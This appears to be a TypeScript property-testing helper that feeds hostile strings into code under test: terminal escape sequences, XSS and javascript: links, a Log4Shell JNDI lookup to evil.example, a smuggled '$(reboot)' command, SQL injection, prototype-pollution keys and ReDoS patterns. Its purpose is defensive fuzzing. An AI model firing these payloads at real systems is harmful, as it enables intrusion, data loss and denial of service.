import fc from "fast-check";

/** Texts that a terminal, a browser, a regular expression or a JSON reader might act on. */
export const hostileTexts = [
  "\u001b[31mred\u001b[0m",
  "\u001b]0;new title\u0007",
  "\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007",
  "\u001b[2J\u001b[H\u001b[?1049h",
  "\u001bP+q544e\u001b\\",
  "\u009b31mC1\u009c",
  "\u0000\u0001\u0007\u0008\u007f",
  "line\rover\rwritten",
  "\u202Etxt.exe\u202C \u2066x\u2069",
  "\ud800 lone \udfff",
  "\ufffd\ufffd\ufffd invalid UTF-8",
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "[click](javascript:alert(1)) ![x](https://evil.example/x.png) **bold** `code`",
  "| a | b |\n| --- | --- |",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: such texts are what is tested
  "${jndi:ldap://evil.example/a} {{7*7}} %s%n$(reboot)`reboot`",
  "'; DROP TABLE evidence; --",
  '{"level":"ERROR","message":"{\\"nested\\":\\"\\u001b[31m\\"}"}',
  "{".repeat(2000),
  "a".repeat(5000),
  "__proto__ constructor prototype toString",
] as const;

/** Any text, with hostile pieces in it more often than chance would put them there. */
export function hostileText(): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
    { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 40 }).map((bytes) => Buffer.from(bytes).toString("utf8")) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 40 }).map((bytes) => Buffer.from(bytes).toString("latin1")) },
  );
  return fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join(""));
}

/** What a terminal would act on: control characters but the line end, C1 controls, and marks that turn the text's direction. */
export const actsOnTerminal = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Patterns over which a backtracking engine needs exponential or polynomial time, each with its text. */
export const explosive: readonly { readonly pattern: string; readonly text: string }[] = [
  { pattern: "^(a+)+$", text: `${"a".repeat(50_000)}!` },
  { pattern: "(a|aa)+$", text: `${"a".repeat(50_000)}!` },
  { pattern: "(a|a?)+$", text: `${"a".repeat(50_000)}!` },
  { pattern: "^(([a-z])+.)+[A-Z]([a-z])+$", text: "a".repeat(50_000) },
  { pattern: "(.*a){20}$", text: `${"a".repeat(2000)}!` },
  { pattern: "(x+x+)+y", text: "x".repeat(50_000) },
  { pattern: "\\s+$", text: `${" ".repeat(50_000)}x` },
];
